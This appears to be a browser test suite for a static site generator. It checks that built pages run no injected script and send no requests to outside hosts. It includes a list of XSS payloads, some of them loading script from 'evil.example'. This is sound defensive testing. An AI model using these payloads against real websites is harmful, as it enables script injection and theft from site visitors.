"""Published attacks and our own in a site built by the command line, opened in a real browser.

With the policy that every page carries, and without: what is sanitised must not need it.
"""

from __future__ import annotations

import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

from tests.browser.attacked import build_attacked
from tests.cases import needs_shared
from tests.examples import some
from tests.oracle import FRAMES

pytestmark = pytest.mark.browser

WATCH = """
window.ran = [];
for (const name of ["alert", "confirm", "prompt", "print", "open"])
    window[name] = (...given) => { window.ran.push(name + ":" + given); };
document.addEventListener("securitypolicyviolation", event => {
    if (event.effectiveDirective.startsWith("script"))
        window.ran.push("blocked " + event.blockedURI);
});
"""
REPORT = """() => {
    const found = [];
    const look = (element) => {
        const inside = element.closest(".sg-body");
        const foreign = ["script", "object", "embed", "base", "form", "svg"];
        if ((inside || !element.isConnected) && foreign.includes(element.localName))
            found.push(element.localName);
        for (const attribute of element.attributes)
            if (attribute.name.startsWith("on")) found.push(element.localName + attribute.name);
        if (element.protocol && !["http:", "https:", "mailto:", ":"].includes(element.protocol))
            found.push(element.protocol);
        if (element.content?.querySelectorAll) element.content.querySelectorAll("*").forEach(look);
    };
    const everywhere = () => document.querySelectorAll("*").forEach(look);
    everywhere();
    const frames = document.scripts.length ? [...document.querySelectorAll("a.sg-embed")] : [];
    frames.forEach((facade) => facade.click());
    if (frames.length) everywhere();
    return [...found, ...window.ran];
}"""


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return build_attacked(tmp_path_factory.mktemp("hostile"))


class _Watched:
    """A browser tab that notes what runs and which requests leave the machine."""

    def __init__(self, browser: Any, *, has_policy: bool = True) -> None:
        self._requests: list[Any] = []
        self.dialogs: list[str] = []
        self._context = browser.new_context(bypass_csp=not has_policy)
        self._context.add_init_script(WATCH)
        self._context.on("request", self._request)
        self.page = self._context.new_page()
        self.page.on("dialog", self._dialog)
        self._context.on("page", lambda page: self.dialogs.append(f"window {page.url}"))

    def _request(self, request: Any) -> None:
        url = urlsplit(request.url)
        host = url.hostname or ""
        if host == "127.0.0.1" or url.scheme in {"about", "data"}:
            return
        framed = request.resource_type == "document" and (
            host in FRAMES or host.endswith(".hf.space")
        )
        if not framed and request.resource_type not in {"image", "media"}:
            self._requests.append(request)

    def left(self) -> list[str]:
        """List the requests for other hosts that the policy did not stop."""
        return [
            f"{request.resource_type} {request.url}"
            for request in self._requests
            if "csp" not in (request.failure or "").lower()
        ]

    def _dialog(self, dialog: Any) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def visit(self, address: str) -> list[str]:
        """Open a page and list what ran or tried to."""
        self.page.goto(address, wait_until="load", timeout=120_000)  # one page holds all attacks
        found: list[str] = self.page.evaluate(REPORT)
        return found

    def close(self) -> None:
        self._context.close()


@pytest.fixture
def watched(chromium: Any) -> Iterator[_Watched]:
    tab = _Watched(chromium)
    yield tab
    tab.close()


@needs_shared
@pytest.mark.parametrize("has_policy", [True, False])
def test_no_attack_runs_in_a_browser(
    site: Path, serving: Any, chromium: Any, *, has_policy: bool
) -> None:
    watched = _Watched(chromium, has_policy=has_policy)
    names = [*sorted(page.name for page in site.glob("page*/")), "print", "site-index"]
    assert len(names) > 500
    # What does nothing without the policy does nothing with it.
    names = some(names, least=100 if has_policy else 300)
    with serving(site) as address:
        found = {name: watched.visit(f"{address}{name}/") for name in names}
    watched.close()
    assert {name: ran for name, ran in found.items() if ran} == {}
    assert watched.dialogs == []
    assert watched.left() == []


@pytest.mark.parametrize(
    "smuggled",
    [
        "<img src=x onerror=alert(1)>",
        "<script>alert(1)</script>",
        "<script src=https://evil.example/x.js></script>",
        "<svg onload=alert(1)></svg>",
        "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
        "<a id=x href=javascript:alert(1)>x</a>",
        "<object data=https://evil.example/x></object>",
        "<base href=https://evil.example/><script src=x.js></script>",
    ],
)
def test_the_shipped_policy_stops_what_a_sanitiser_would_miss(
    smuggled: str, tmp_path: Path, serving: Any, watched: _Watched
) -> None:
    (tmp_path / "docs").mkdir()
    (tmp_path / "docs" / "index.md").write_text("# Page\n\nHERE\n", "utf-8")
    command = [sys.executable, "-m", "sitegen", "build", "docs", "-o", "site", "-q"]
    environment = {"PYTHONPATH": str(Path(__file__).parents[2])}
    subprocess.run(command, cwd=tmp_path, env=environment, check=True, capture_output=True)
    page = tmp_path / "site" / "index.html"
    page.write_text(page.read_text("utf-8").replace("HERE", smuggled), "utf-8")
    with serving(tmp_path / "site") as address:
        watched.visit(address)
        watched.page.evaluate("document.getElementById('x')?.click()")
        ran = watched.page.evaluate("window.ran.filter(what => !what.startsWith('blocked'))")
    assert ran == []
    assert watched.left() == []
